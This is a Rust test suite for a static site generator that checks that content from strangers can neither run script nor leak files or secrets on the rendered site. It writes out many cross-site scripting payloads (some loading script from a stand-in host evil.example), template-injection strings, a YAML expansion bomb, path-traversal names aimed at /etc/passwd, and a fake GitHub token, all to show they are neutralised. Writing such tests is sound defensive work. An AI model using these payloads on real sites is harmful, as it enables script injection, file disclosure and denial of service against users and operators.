//! What strangers write does no harm: each row of the threats that concerns content and output, tried on
//! the rendered site. The payloads are our own; what they try is common knowledge.

use longhouse::diagnostic::Rule;
use longhouse::page::front_matter::Field;
use longhouse::page::kind::Kind;

use crate::crawl::{assert_safe, assert_whole, attributes, text_of};
use crate::fixture::{Rendered, folder, site};

/// Ways to run something, written as text.
const SCRIPTS: &[&str] = &[
    "<script>pwned()</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=pwned()>",
    "<img src=\"x\" onerror='pwned()' style=\"position:fixed\">",
    "<svg onload=pwned()><script>pwned()</script></svg>",
    "<svg><style><img src=x onerror=pwned()></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=pwned()&gt;\">",
    "<a href=\"javascript:pwned()\" onclick=\"pwned()\">x</a>",
    "<a href=\"java&#10;script:pwned()\">x</a>",
    "<details ontoggle=pwned() open><summary>x</summary></details>",
    "<iframe srcdoc=\"<script>pwned()</script>\"></iframe>",
    "<object data=\"data:text/html,<script>pwned()</script>\"></object>",
    "<form action=//evil.example><input name=q autofocus onfocus=pwned()><button formaction=javascript:pwned()>x</button></form>",
    "<base href=//evil.example/><link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content=\"0;url=javascript:pwned()\">",
    "<style>@import '//evil.example/x.css';</style>",
    "<video src=//evil.example/x.mp4 onerror=pwned()></video>",
    "<p id=\"main\" name=\"cookie\" class=\"ribbon\">shadow</p>",
    "<template><script>pwned()</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=pwned()>\"></noscript>",
    "<!--><img src=x onerror=pwned()>-->",
    "<![CDATA[<script>pwned()</script>]]>",
    "</main></body><script>pwned()</script>",
    "\"><script>pwned()</script>",
    "'><img src=x onerror=pwned()>",
    "</title><script>pwned()</script>",
    "<a name=\"x\" id=\"location\">x</a> {onclick=pwned()} {#main}",
    "[x](javascript:pwned()) [y](JaVaScRiPt&colon;pwned()) ![z](javascript:pwned())",
    "[x](data:text/html;base64,PHNjcmlwdD4=) [y](vbscript:x) [z](file:///etc/passwd) <javascript:pwned()>",
    "[x](\u{1}javascript:pwned()) [y](java\u{200b}script:pwned()) [z](//evil.example/x \"onclick=pwned()\")",
    "![x](https://tracker.example/pixel.gif) ![y](//tracker.example/p.png) <img src=\"https://tracker.example/p\">",
    "&lt;script&gt;pwned()&lt;/script&gt; `<script>pwned()</script>`",
    "```html\n<script>pwned()</script>\n```",
    "# <script>pwned()</script> \" onclick=pwned() x=\"",
];

/// A front matter value with a script in it, for any field.
const VALUE: &str = "'\"><script>pwned()</script><img src=x onerror=pwned()>'";

#[test]
fn nothing_that_a_body_holds_runs() {
    let folder = folder("=== longhouse.yaml\nbase_url: https://x.example/help/\n");
    for (n, script) in SCRIPTS.iter().enumerate() {
        folder.write(
            &format!("content/questions/q{n}.md"),
            format!("# Q{n}\n\n{script}\n\n## Answer\n\n{script}\n"),
        );
        folder.write(&format!("content/questions/q{n}/ana.md"), format!("{script}\n"));
        folder.write(
            &format!("content/stories/s{n}.md"),
            format!("# S{n}\n\n## Problem\n\n- {script}\n\n> {script}\n"),
        );
        folder.write(&format!("content/how-tos/h{n}.md"), format!("# {script}\n\n## Steps\n\n1. {script}\n"));
        folder.write(&format!("content/questions/t{n}/_index.md"), format!("# {script}\n\n{script}\n"));
        folder.write(
            &format!("content/questions/t{n}/x{n}.md"),
            format!("# X\n\n| a |\n|---|\n| {script} |\n\n[^1]: {script}\n"),
        );
    }
    folder.write("GUIDELINES.md", format!("# Rules\n\n{}\n", SCRIPTS.join("\n\n")));
    let rendered = folder.build();
    assert_safe(&rendered);
    assert_whole(&rendered, "https://x.example", "/help");
    assert_eq!(rendered.built.left_out.held, 0, "{:#?}", rendered.rules());
    // What could not stay is still there to be read.
    assert!(text_of(&rendered.page("/questions/q0/"), "main").contains("<script>pwned()</script>"));
}

#[test]
fn nothing_that_a_field_holds_runs() {
    let mut fields = String::new();
    // These are held where they say something that cannot be.
    let held = [Field::Status, Field::Consent, Field::DuplicateOf];
    let is_of_entries = |field: &Field| Kind::ALL.iter().any(|kind| field.is_taken_by(*kind));
    for field in Field::ALL.iter().filter(|field| is_of_entries(field) && !held.contains(field)) {
        fields.push_str(&format!("{}: {VALUE}\n", field.name()));
    }
    let folder = folder("=== longhouse.yaml\nbase_url: https://x.example/help/\n");
    for kind in ["questions", "stories", "how-tos", "ideas", "announcements", "people", "links", "pages"] {
        let mut own = fields.clone();
        if kind == "links" {
            own =
                own.replace(&format!("url: {VALUE}"), "url: 'https://y.example/\"><script>pwned()</script>'");
        }
        if kind == "stories" {
            own.push_str("consent: 'yes, <script>pwned()</script>, 2026-01-01'\n");
        }
        own = own.replace(&format!("slug: {VALUE}\n"), &format!("slug: 'a<script>{kind}'\n"));
        folder.write(&format!("content/{kind}/a.md"), format!("---\n{own}status: obsolete\n---\nText.\n"));
        folder.write(
            &format!("content/{kind}/bare.md"),
            format!("---\ntitle: {VALUE}\nurl: https://y.example/\n---\nText.\n"),
        );
    }
    folder.write(
        "content/questions/bare/ana.md",
        format!("---\nauthors: {VALUE}\naffiliation: {VALUE}\n---\nText.\n"),
    );
    folder.write(
        "content/questions/bare/ben.md",
        format!("---\nconfirms: ana\nversion: {VALUE}\nauthors: {VALUE}\n---\n"),
    );
    let rendered = folder.build();
    assert_safe(&rendered);
    assert_whole(&rendered, "https://x.example", "/help");
    for kind in ["questions", "stories", "how-tos", "ideas", "announcements", "links"] {
        let page = rendered.page(&format!("/{kind}/bare/"));
        assert!(
            text_of(&page, "h1").contains("\"><script>pwned()</script>"),
            "{kind}: {}",
            text_of(&page, "h1")
        );
        assert!(text_of(&page, "title").contains("\"><script>pwned()</script>"), "{kind}");
    }
    for path in ["feed.xml", "questions/feed.xml", "sitemap.xml"] {
        let feed = rendered.file(path);
        assert!(!feed.contains("<script") && !feed.contains("<img"), "{path}: {feed}");
    }
    let json: serde_json::Value = serde_json::from_str(&rendered.file("feed.json")).expect("JSON");
    assert!(json["items"].as_array().is_some_and(|items| items.len() > 5));
}

#[test]
fn template_syntax_in_content_comes_out_as_typed() {
    let rendered = site(
        "\
=== longhouse.yaml
base_url: https://x.example/
=== content/questions/a.md
---
tags: ['{{ 1111+1 }}']
description: '{{ 1111+1 }}{{ site }}'
authors: ['{{ 1111+1 }}']
---
# What is {{ 1111+1 }}?
{{ 1111+1 }} {% include \"base.html\" %} {# gone? #} ${1111+1} <%= 1111+1 %> {% raw %}
=== content/questions/a/{{ 1111+1 }}.md
{{ 1111+1 }}
=== content/people/b.md
---
name: '{{ 1111+1 }}'
---
=== content/questions/t/_index.md
# {{ 1111+1 }}
{% for x in site %}{{ x }}{% endfor %}
=== content/questions/t/x.md
# X
",
    );
    for (path, text) in rendered.pages() {
        let seen = format!("{} {}", text_of(&text, "title"), text_of(&text, "body"));
        assert!(!seen.contains("1112") && !seen.contains("[object]"), "{path}: {seen}");
    }
    let page = rendered.page("/questions/a/");
    assert_eq!(text_of(&page, "h1"), "What is {{ 1111+1 }}?");
    let main = text_of(&page, "main");
    assert!(
        main.contains(
            "{{ 1111+1 }} {% include \"base.html\" %} {# gone? #} ${1111+1} <%= 1111+1 %> {% raw %}"
        ),
        "{main}"
    );
    assert!(text_of(&rendered.page("/tags/t/"), "main").contains("{% for x in site %}{{ x }}{% endfor %}"));
    assert_safe(&rendered);
}

#[test]
fn front_matter_that_would_exhaust_the_machine_holds_the_page_and_no_other() {
    let bomb: String = (0..40).map(|n| format!("a{n}: &a{n} [*a{0}, *a{0}]\n", n.max(1) - 1)).collect();
    let folder = folder("=== content/questions/fine.md\n# Fine\n");
    folder.write("content/questions/bomb.md", format!("---\nx: &a0 [1, 2]\n{bomb}---\n# Bomb\n"));
    folder.write(
        "content/questions/deep.md",
        format!("---\ntags: {}{}\n---\n# Deep\n", "[".repeat(5000), "]".repeat(5000)),
    );
    folder.write("content/questions/flow.md", format!("---\ntags: {}\n---\n# Flow\n", "{a: ".repeat(5000)));
    folder.write("content/questions/long.md", format!("---\ntitle: {}\n---\n# Long\n", "x".repeat(70_000)));
    folder.write("content/questions/twice.md", "---\ntitle: A\ntitle: B\n---\n# Twice\n");
    folder.write("content/questions/zero.md", b"# Nul\n\nhere \0 it is\n");
    folder.write("content/questions/latin.md", b"# Latin\n\ncaf\xE9\n");
    folder.write("content/questions/utf16.md", b"\xFF\xFE#\0 \0A\0");
    folder.write("content/questions/big.md", format!("# Big\n\n{}", "word ".repeat(300_000)));
    folder.write("content/questions/nested.md", format!("# Nested\n\n{}x\n", "> ".repeat(500)));
    let rendered = folder.build();
    let held = [
        ("big", Rule::TooLarge),
        ("bomb", Rule::FrontMatter),
        ("deep", Rule::FrontMatter),
        ("flow", Rule::FrontMatter),
        ("latin", Rule::Encoding),
        ("long", Rule::TooLarge),
        ("nested", Rule::TooDeep),
        ("zero", Rule::Encoding),
        ("twice", Rule::FrontMatter),
        ("utf16", Rule::Encoding),
    ];
    for (name, rule) in held {
        let file = format!("content/questions/{name}.md");
        let said: Vec<Rule> = rendered.of(&file).iter().map(|it| it.rule).collect();
        let fits = said.contains(&rule) || (rule == Rule::FrontMatter && said.contains(&Rule::TooDeep));
        assert!(fits, "{name}: {said:?}");
        assert!(!rendered.has(&format!("questions/{name}/index.html")), "{name} is published");
    }
    assert!(rendered.has("questions/fine/index.html"));
    let nul = rendered.of("content/questions/zero.md")[0];
    assert_eq!((nul.line, nul.column), (3, 6));
}

#[test]
fn no_field_and_no_link_leaves_the_site() {
    let folder = folder(
        "=== longhouse.yaml\nbase_url: https://x.example/help/\n=== secret.md\n# Secret\n=== secret.png\n\n",
    );
    folder.write("secret.png", b"\x89PNG\r\n\x1a\n");
    for (n, path) in [
        "../../../etc/passwd",
        "..",
        "/etc/passwd",
        "..%2f..%2fx",
        "a/../../b",
        "C:\\x",
        "//evil.example/x",
        "\\\\host\\x",
        ".",
        "con",
        "a\u{0}b",
        ".longhouse",
        "/../..",
        "/%2e%2e/x/",
    ]
    .iter()
    .enumerate()
    {
        let text = serde_json::to_string(path).expect("JSON is YAML");
        folder.write(&format!("content/questions/q{n}.md"), format!("---\nslug: {text}\naliases: [{text}]\nlang: {text}\nlicense: {text}\ntags: [{text}]\nproducts: [{text}]\nauthors: [{text}]\n---\n# Q{n}\n\n[x](<{path}>) ![y](<{path}>) [z](../../secret.md) ![s](../../secret.png) [s](/secret.png)\n"));
        folder.write(
            &format!("content/questions/q{n}/a{n}.md"),
            format!("---\non: {text}\nconfirms: {text}\n---\nText\n"),
        );
    }
    let rendered = folder.build();
    assert_safe(&rendered);
    assert_whole(&rendered, "https://x.example", "/help");
    for path in rendered.paths() {
        let strange =
            path.split('/').any(|part| matches!(part, "" | "." | "..") || part.contains(['\\', ':', '%']));
        assert!(!strange, "{path}");
        assert!(!path.contains("secret"), "{path}");
    }
}

#[cfg(unix)]
#[test]
fn a_link_of_the_file_system_is_refused_and_named() {
    use std::os::unix::fs::symlink;
    let folder = folder("=== content/questions/fine.md\n# Fine\n\n![x](link.png)\n");
    let inside = folder.root().join("content/questions");
    symlink("/etc/passwd", inside.join("passwd.md")).expect("a link");
    symlink("/etc/hostname", inside.join("link.png")).expect("a link");
    symlink("/etc", inside.join("folder")).expect("a link");
    symlink("..", inside.join("loop")).expect("a link");
    rustix::fs::mknodat(rustix::fs::CWD, inside.join("pipe.md"), rustix::fs::FileType::Fifo, 0o644.into(), 0)
        .expect("a pipe");
    let rendered = folder.build();
    let refused: Vec<&str> =
        rendered.diagnostics.iter().filter(|it| it.rule == Rule::Symlink).map(|it| &*it.file).collect();
    let names = ["folder", "link.png", "loop", "passwd.md"];
    assert_eq!(refused, names.map(|name| format!("content/questions/{name}")));
    for (path, text) in rendered.pages() {
        assert!(!text.contains("root:x"), "{path}");
    }
    assert!(rendered.has("questions/fine/index.html"));
}

#[test]
fn what_some_system_takes_for_one_name_is_one_page() {
    let rendered = site(
        "\
=== content/questions/Straße.md
# A
=== content/questions/x/STRASSE.md
# B
=== content/questions/caf\u{e9}.md
# C
=== content/questions/x/cafe\u{301}.md
# D
=== content/questions/FAQ.md
# E
=== content/questions/x/faq.md
# F
=== content/questions/unanswered.md
# G
=== content/pages/search.md
# H
=== content/pages/404.html.md
# I
=== content/pages/tags.md
# J
=== content/questions/feed.xml.md
# K
",
    );
    let held: Vec<&str> = rendered
        .diagnostics
        .iter()
        .filter(|it| it.rule == Rule::DuplicateAddress)
        .map(|it| &*it.file)
        .collect();
    assert_eq!(held.len(), 8, "{held:#?}");
    assert!(rendered.diagnostics.iter().all(|it| it.rule != Rule::DuplicateAddress || it.fix.is_some()));
    let mut folded: Vec<String> =
        rendered.paths().iter().map(|path| longhouse::page::slug::fold(path)).collect();
    folded.sort();
    let all = folded.len();
    folded.dedup();
    assert_eq!(folded.len(), all, "two paths are one to some system");
    assert_whole(&rendered, "http://127.0.0.1:4000", "");
}

#[test]
fn an_alias_takes_nothing_from_anybody() {
    let folder = folder("=== longhouse.yaml\nbase_url: https://x.example/\n");
    folder.write("content/questions/a.md", "# A\n");
    folder.write("content/questions/shot.png", b"\x89PNG\r\n\x1a\n");
    folder.write("content/questions/t/tagged.md", "# T\n\n![x](../shot.png)\n");
    folder.write("static/own/page.html", "<p>own</p>");
    folder.write("static/verify", "own");
    folder.write("content/pages/verify.md", "# Verify\n");
    let aliases = [
        "/",
        "/index.html",
        "/404.html",
        "/robots.txt",
        "/feed.xml/x/",
        "/questions/a/",
        "/QUESTIONS/A/",
        "/tags/t/",
        "/questions/",
        "/search/",
        "/assets/site.css",
        "/files/questions/shot.png",
        "/own/page.html",
        "/own/page.html/x/",
        "/people/ana/",
        "/questions/page/2/",
        "/sitemap.xml",
        "/.nojekyll",
        "/.longhouse",
        "/old.html",
        "/old.html/deeper/",
        "/new/",
        "/New",
        "/a b/",
        "/questions/a/index.html/x/",
        "/verify/x/",
        "/products/",
        "/page/2/",
        "/.git/config",
    ];
    folder.write(
        "content/questions/thief.md",
        format!(
            "---\naliases: {}\nauthors: ana\n---\n# Thief\n",
            serde_json::to_string(&aliases).expect("JSON is YAML")
        ),
    );
    folder.write(
        "content/questions/thief2.md",
        "---\naliases: [/old.html, /old.html/deeper/, thief]\n---\n# Thief 2\n",
    );
    let rendered = folder.build();
    assert_whole(&rendered, "https://x.example", "");
    assert!(rendered.page("/questions/a/").contains("<h1>A</h1>"));
    assert!(rendered.file("old.html").contains("This page has moved"), "a good alias works");
    assert!(rendered.page("/new/").contains("This page has moved"));
}

#[test]
fn hostile_files_beside_content_are_not_published() {
    let folder = folder(
        "=== longhouse.yaml\nbase_url: https://x.example/\n=== content/questions/a.md\n# A\n\n![a](page.png) [b](evil.html) [c](run.js) [d](data.csv) [e](draw.svg) ![e](draw.svg) [f](more.json) [g](note.txt)\n",
    );
    folder.write("content/questions/page.png", "<html><script>pwned()</script>");
    folder.write("content/questions/evil.html", "<script>pwned()</script>");
    folder.write("content/questions/run.js", "pwned()");
    folder.write("content/questions/data.csv", "\u{feff}  <html><script>pwned()</script>");
    folder.write("content/questions/more.json", "<script>pwned()</script>");
    folder.write("content/questions/note.txt", "<script>pwned()</script>");
    folder.write("content/questions/draw.svg", "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"pwned()\" viewBox=\"0 0 4 2\"><script>pwned()</script><a href=\"javascript:pwned()\"><rect width=\"4\" height=\"2\"/></a><foreignObject><img src=\"x\" onerror=\"pwned()\"/></foreignObject></svg>");
    let rendered = folder.build();
    let published: Vec<&str> =
        rendered.paths().into_iter().filter(|path| path.starts_with("files/")).collect();
    assert_eq!(published, ["files/questions/draw.svg"]);
    let svg = rendered.file("files/questions/draw.svg");
    assert!(svg.contains("<rect") && !svg.contains("pwned") && !svg.contains("foreignObject"), "{svg}");
    let refused = rendered.diagnostics.iter().filter(|it| it.rule == Rule::UnsafeFile).count();
    assert_eq!(refused, 6, "{:#?}", rendered.rules());
    assert!(rendered.main("/questions/a/").contains("width=\"4\" height=\"2\""));
    assert_safe(&rendered);
}

#[test]
fn nobody_learns_who_reads() {
    let rendered = site("\
=== longhouse.yaml
base_url: https://x.example/
images: {allow_hosts: [cdn.example]}
=== content/questions/a.md
# A
![pixel](https://tracker.example/p.gif) ![good](https://cdn.example/p.png) [out](https://y.example/) <img src=\"//tracker.example/q.gif\" alt=\"raw\">
");
    let main = rendered.main("/questions/a/");
    assert!(
        main.contains("<a href=\"https://tracker.example/p.gif\" rel=\"ugc nofollow noopener\">pixel</a>"),
        "{main}"
    );
    assert!(
        main.contains("<a href=\"https://tracker.example/q.gif\" rel=\"ugc nofollow noopener\">raw</a>"),
        "{main}"
    );
    assert!(
        main.contains(
            "<img src=\"https://cdn.example/p.png\" alt=\"good\" loading=\"lazy\" decoding=\"async\">"
        ),
        "{main}"
    );
    assert!(main.contains("<a href=\"https://y.example/\" rel=\"ugc nofollow noopener\">out</a>"), "{main}");
    assert_eq!(rendered.rules(), ["content/questions/a.md: remote-image"; 2]);
    let page = rendered.page("/questions/a/");
    let policies = attributes(&page, "meta[http-equiv=Content-Security-Policy]", "content");
    let policy = policies.first().map_or("", String::as_str);
    assert!(
        policy.starts_with("default-src 'none'; script-src 'self' 'wasm-unsafe-eval'; style-src 'self';"),
        "{policy}"
    );
    assert!(policy.contains("cdn.example") && !policy.contains("tracker"), "{policy}");
}

#[test]
fn what_nobody_sees_and_what_nobody_should_see_is_taken_out_everywhere() {
    let token = format!("ghp_{}", "a1B2c3D4".repeat(5).get(..36).unwrap_or_default());
    let folder = folder("=== longhouse.yaml\nbase_url: https://x.example/\n");
    folder.write("content/questions/a.md", format!("---\ntitle: \"Why\u{202e} so {token}\"\ntags: [\"bi\u{202e}di\", {token}]\nalso_asked: [\"ze\u{200b}ro {token}\"]\ndescription: \"{token}\u{2066}\"\nauthors: [\"\u{202e}nimda\"]\n---\nBody\u{202e} with {token} and ze\u{200b}ro.\n\n[link](https://y.example/?key={token}) ![i](x.png \"{token}\")\n\n```\n{token}\u{202e}\n```\n\n## {token}\u{202e} heading\n"));
    folder.write("content/questions/a/ana.md", format!("Reply {token}\u{202e}\n"));
    folder.write(
        "content/questions/dead.md",
        format!("# D\n\n[x](nothing-{token}.md) [y](noth\u{202e}ing.md) [z](a.md#no-{token})\n"),
    );
    folder.write(&format!("content/questions/{token}.md"), "# Named\n");
    folder.write("content/questions/log.csv", format!("a,b\n1,{token}\n"));
    folder.write("content/questions/c.md", "# C\n\n[log](log.csv)\n");
    let rendered = folder.build();
    let hidden = |it: char| matches!(it, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{200b}');
    for (path, content) in rendered.output.iter() {
        let bytes = crate::fixture::bytes(content);
        let text = String::from_utf8_lossy(&bytes);
        let named_after_it = path.as_str().contains("ghp_");
        assert!(
            named_after_it || !text.contains(&token) || path.as_str().contains("search/"),
            "{path} holds the token: {text}"
        );
        if path.as_str().ends_with(".html") || path.as_str().ends_with(".xml") {
            assert!(!text.contains(hidden), "{path} holds what nobody sees");
        }
    }
    for problem in &rendered.diagnostics {
        let all = format!("{} {} {:?}", problem.message, problem.help, problem.fix);
        assert!(!all.contains(&token), "{}: {all}", problem.rule);
        assert!(!all.contains(hidden), "{}: {all:?}", problem.rule);
    }
    let of = |file: &str, rule: Rule| rendered.of(file).iter().filter(|it| it.rule == rule).count();
    assert!(of("content/questions/a.md", Rule::Secret) >= 6, "{:#?}", rendered.of("content/questions/a.md"));
    assert!(of("content/questions/a.md", Rule::Bidi) >= 4);
    assert_eq!(of("content/questions/a/ana.md", Rule::Secret), 1);
}

#[test]
fn a_language_is_a_language_and_gives_the_direction() {
    let rendered = site(
        "\
=== content/questions/he.md
---
lang: he
---
# A
=== content/questions/bad.md
---
lang: 'x\" onclick=\"y'
---
# B
",
    );
    assert!(rendered.page("/questions/he/").contains("<html lang=\"he\" dir=\"rtl\""));
    assert!(rendered.page("/questions/bad/").contains("<html lang=\"en\" dir=\"ltr\""));
}

#[test]
fn a_file_of_a_moderated_path_stays_away_whatever_refers_to_it() {
    let folder = folder(
        "\
=== data/moderation.yaml
content/questions/bad.png: {status: hidden, reason: no, by: ana}
content/questions/notes.txt: {status: hidden, reason: no, by: ana}
=== content/questions/a.md
# A
![x](bad.png) [y](notes.txt) [z](draft.txt)
=== content/questions/notes.txt
Notes that nobody should read.
=== content/questions/draft.txt
---
status: draft
---
Not yet.
",
    );
    folder.write("content/questions/bad.png", b"\x89PNG\r\n\x1a\n");
    let rendered = folder.build();
    assert!(!rendered.paths().iter().any(|path| path.starts_with("files/")), "{:#?}", rendered.paths());
    for (path, text) in rendered.pages() {
        assert!(!text.contains("nobody should read") && !text.contains("Not yet."), "{path}");
    }
}

#[test]
fn work_grows_with_what_is_written_and_not_with_its_square() {
    // Each of these took minutes in some generator; here a page takes milliseconds.
    let folder = folder("=== longhouse.yaml\nbase_url: https://x.example/\n");
    let cases: &[(&str, String)] = &[
        ("brackets", format!("{}a{}", "[".repeat(50_000), "]".repeat(50_000))),
        ("openers", "[a](<b".repeat(30_000)),
        ("references", "[a][".repeat(100_000)),
        ("emphasis", format!("a**b{}", "c* ".repeat(65_000))),
        ("comments", format!("</{}", "<!--".repeat(150_000))),
        ("tags", "<div>".repeat(60_000)),
        ("attributes", format!("<a {}>", "a=\"".repeat(100_000))),
        ("table", format!("{}\n{}|\n{}", "|".repeat(2000), "|-".repeat(2000), "|\n".repeat(2000))),
        ("headings", "# same\n\n".repeat(20_000)),
        ("autolinks", "http://a.example/".repeat(30_000)),
        ("images", "![a](b.png)".repeat(50_000)),
        ("footnotes", (0..9000).map(|n| format!("[^{n}]\n\n[^{n}]: x\n\n")).collect()),
        ("lists", "- a\n".repeat(100_000)),
    ];
    for (name, text) in cases {
        folder.write(&format!("content/questions/{name}.md"), format!("# {name}\n\n{text}\n"));
    }
    let rendered = folder.build();
    assert_safe(&rendered);
    for (name, text) in cases {
        let page = rendered.output.get(&format!("questions/{name}/index.html"));
        assert!(page.is_none_or(|page| page.len() < 64 * text.len() as u64 + 100_000), "{name} grew");
    }
}

/// Every page of a site that has everything, for a look at its frame.
fn everything() -> Rendered {
    let folder = folder(
        "\
=== longhouse.yaml
base_url: https://x.example/help/
page_size: 2
products: [{id: app, name: App}]
=== GUIDELINES.md
# Rules
=== content/questions/a.md
---
tags: [one]
products: [app]
aliases: [old]
authors: ana
---
# A
=== content/questions/b.md
# B
=== content/questions/c.md
# C
=== content/questions/a/ben.md
Yes.
=== content/stories/s.md
# S
=== content/ideas/i.md
# I
=== content/announcements/n.md
# N
=== content/links/l.md
---
url: https://y.example/
---
# L
=== content/how-tos/h.md
# H
=== content/pages/about.md
# About
=== content/questions/gone.md
---
status: hidden
reason: spam
---
# Gone
",
    );
    folder.write("content/people/ana.md", "# Ana\n");
    folder.build()
}

#[test]
fn every_page_of_every_kind_has_a_policy_and_nothing_inline() {
    let rendered = everything();
    assert_safe(&rendered);
    assert_whole(&rendered, "https://x.example", "/help");
    assert!(rendered.pages().count() >= 30, "{}", rendered.pages().count());
}
